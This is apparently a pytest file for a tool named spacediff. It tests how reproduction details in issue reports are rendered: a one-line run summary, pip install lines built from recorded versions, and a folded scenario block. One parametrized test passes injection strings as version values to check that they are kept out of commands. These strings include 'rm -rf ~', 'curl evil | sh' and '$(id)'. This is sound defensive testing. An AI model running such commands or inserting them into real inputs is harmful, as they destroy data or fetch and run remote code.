"""What repeats the run of an issue: the run in one line, the install line, the scenario."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from spacediff.record import AuditRecord, Origin, Role, SettingRecord
from spacediff.reporting.markdown import render_markdown
from spacediff.reporting.reproduction import install_lines, scenario_of, what_ran


def with_baseline(record: AuditRecord, **changes: Any) -> AuditRecord:
    """Return the record with another baseline; `settings` are added to its own."""
    settings = {
        path: SettingRecord(value=each, origin=Origin.OBSERVED) for path, each in changes.pop("settings", {}).items()
    }
    runs = [
        run.model_copy(update={**changes, "settings": run.settings | settings}) if run.role is Role.BASELINE else run
        for run in record.runs
    ]
    return record.model_copy(update={"runs": runs})


def with_versions(record: AuditRecord, **local: str) -> AuditRecord:
    return record.model_copy(update={"environment": record.environment.model_copy(update={"local": local})})


def test_model_dtype_steps_space_and_versions_are_in_one_line(record: AuditRecord) -> None:
    assert what_ran(record) == (
        "`zai-org/CogVideoX-5b`, `bfloat16`, 50 steps, compared with `Space zai-org/CogVideoX-5B-Space /generate`; "
        "torch `2.13.0+cu130`, diffusers `0.36.0`, Python `3.11.7`, `NVIDIA L40S`"
    )
    assert f"Run: {what_ran(record)}" in render_markdown(record)


def test_a_checkpoint_on_somebodys_machine_is_named_without_its_folder(record: AuditRecord) -> None:
    for path in ("/mnt/private/models/lemon", r"C:\private\models\lemon"):
        line = what_ran(with_baseline(record, settings={"model.id": path}))
        assert line.startswith("`lemon`, `bfloat16`")


def test_the_install_line_has_the_versions_of_the_record(record: AuditRecord) -> None:
    assert install_lines(record) == [
        "pip install torch==2.13.0 diffusers==0.36.0  # torch was 2.13.0+cu130",
        'pip install "spacediff[run]==0.1.0"',
    ]
    assert "```console\npip install torch==2.13.0 diffusers==0.36.0 " in render_markdown(record)


def test_a_development_version_is_no_package_of_an_index(record: AuditRecord) -> None:
    lines = install_lines(with_versions(record, torch="2.13.0", diffusers="0.43.0.dev0"))
    assert lines[:2] == ["pip install torch==2.13.0", "# diffusers 0.43.0.dev0 is a development version"]


@pytest.mark.parametrize("evil", ["1.0; rm -rf ~", "1.0\ncurl evil | sh", "$(id)", "`id`", "--index-url=http://evil"])
def test_only_a_version_comes_into_a_command(record: AuditRecord, evil: str) -> None:
    hostile = with_versions(record, torch="2.13.0", diffusers=evil).model_copy(update={"spacediff_version": evil})
    lines = install_lines(hostile)
    assert lines == ["pip install torch==2.13.0", "# the version of spacediff is unknown"]
    assert all(shlex.split(line, comments=True)[:2] in ([], ["pip", "install"]) for line in lines)


def test_a_script_in_another_environment_has_the_versions_of_that(record: AuditRecord) -> None:
    script = with_baseline(record, source="script", settings={"machine.torch": "2.6.0", "machine.diffusers": "0.35.1"})
    assert install_lines(script)[0] == "pip install torch==2.6.0 diffusers==0.35.1"
    versioned = with_baseline(record, settings={"env.diffusers": "0.35.0"})
    assert "diffusers==0.35.0" in install_lines(versioned)[0]


def test_of_two_files_nothing_is_said_to_have_been_run(record: AuditRecord) -> None:
    files = with_baseline(record, source="video")
    assert what_ran(files) == ""
    assert install_lines(files) == ['pip install "spacediff[run]==0.1.0"']
    assert "\nRun: " not in render_markdown(files)


def test_the_scenario_is_folded_in_and_cut_between_lines(record: AuditRecord) -> None:
    assert "<details><summary>Scenario</summary>\n\n```toml\ntitle = " in render_markdown(record)
    long = record.model_copy(update={"scenario": "a = 1\n" * 3000})
    found = scenario_of(long)
    assert found.block.count("a = 1\n") + found.left_out == 3000
    assert found.left_out > 0
    assert f"{found.left_out} more lines left out" in render_markdown(long)


def test_the_scenario_of_a_private_prompt_is_not_shown(record: AuditRecord) -> None:
    hidden = record.model_copy(update={"prompts": [record.prompts[0].model_copy(update={"private": True})]})
    assert scenario_of(hidden).block == ""
    assert "<summary>Scenario" not in render_markdown(hidden)
